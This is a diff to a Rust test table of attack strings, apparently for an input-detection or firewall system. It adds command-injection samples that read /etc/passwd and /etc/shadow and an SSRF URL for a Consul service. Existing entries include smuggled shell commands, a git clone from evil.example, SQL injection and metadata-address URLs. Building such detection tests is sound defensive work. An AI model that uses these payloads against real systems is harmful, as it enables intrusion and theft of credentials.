@@ -345,6 +345,7 @@ const ATTACKS: &[Texts] = &[
         "x; awk 'BEGIN{system(\"id\")}'", "grep & whoami", "x & awk -f /tmp/a", "Docker; kubectl get pods -A", "Linux; useradd bob", "a; chown nobody file",
         "Merge; git clone http://evil.example/x", "x;tar cf - /etc", "foo; sed -n 1p /etc/hosts", "x; perl -e 1", "x;time id", "a;getcap -r /", "; `ls -la` ;",
         "timeout 5 id", "flock -u / whoami", "x;gcc x.c", "cat /etc/passwd", "less<etc/passwd",
+        "| grep root /etc/passwd", "x;awk -F : 1 /etc/shadow",
     ]),
     ("sqli", Part::Body, "text", &[
         "x', (select a from b), 'you are the", "this is nice' or 1=1 --", "that is it'; select a from b --", "1 union select the, is from users where",
@@ -369,7 +370,7 @@ const ATTACKS: &[Texts] = &[
         "at java.lang.Runtime.exec(\"id\")", "x\njava.lang.Runtime.getRuntime().exec('id')\nat a.B.c(B.java:1)",
     ]),
     ("ssrf", Part::Body, "url", &[
-        "ldap://127.0.0.1:389/x", "sftp://evil.example:11111/", "ldaps://evil.example/", "gopher://x/", "http://127。0。0。1/",
+        "http://consul.service.consul:8500/", "ldap://127.0.0.1:389/x", "sftp://evil.example:11111/", "ldaps://evil.example/", "gopher://x/", "http://127。0。0。1/",
     ]),
     ("ssrf", Part::Body, "ldap_url", &[
         "ldap://evil.example:6379/x", "ldap://evil.example/%0astats", "ldap://169.254.169.254/x", "gopher://evil.example/",
